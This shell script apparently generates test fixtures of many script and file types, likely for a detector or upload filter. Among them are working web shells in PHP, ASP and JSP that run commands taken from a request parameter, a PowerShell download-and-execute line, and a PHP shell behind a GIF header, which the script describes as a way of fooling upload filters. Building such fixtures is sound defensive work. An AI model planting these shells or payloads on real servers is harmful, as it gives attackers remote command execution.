# Scripts: those of this system, and one of each interpreter.
cp "$(command -v ldd)" ldd.sh
cp "$(command -v zipgrep)" zipgrep.sh
printf '#!/usr/bin/env python3\nimport os\nos.system("id")\n' >script.py
printf '#!/usr/bin/perl\nsystem("id");\n' >script.pl
printf '#!/usr/bin/env node\nrequire("child_process").execSync("id");\n' >script.cjs
printf '<?php system($_GET["c"]); ?>\n' >shell.php
printf '\n\n<?= `id` ?>\n' >short-tags.phtml
printf '<%%@ page language="java" %%><%% Runtime.getRuntime().exec("id"); %%>\n' >shell.jsp
printf '<%% eval request("c") %%>\n' >shell.asp
printf '@echo off\r\nstart calc.exe\r\n' >setup.bat
printf 'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://example.com")\r\n' >setup.ps1
printf 'CreateObject("WScript.Shell").Run "calc.exe"\r\n' >setup.vbs
printf '[InternetShortcut]\r\nURL=https://example.com/\r\n' >link.url
printf '[Desktop Entry]\nType=Application\nExec=xterm\n' >link.desktop
printf 'Windows Registry Editor Version 5.00\r\n' >keys.reg
# PHP behind the header of a picture, as upload filters are tricked.
printf 'GIF89a;\n<?php system($_GET["c"]); ?>\n' >picture.php
printf '#!/bin/sh\n%%PDF-1.7\nid\n' >header.sh
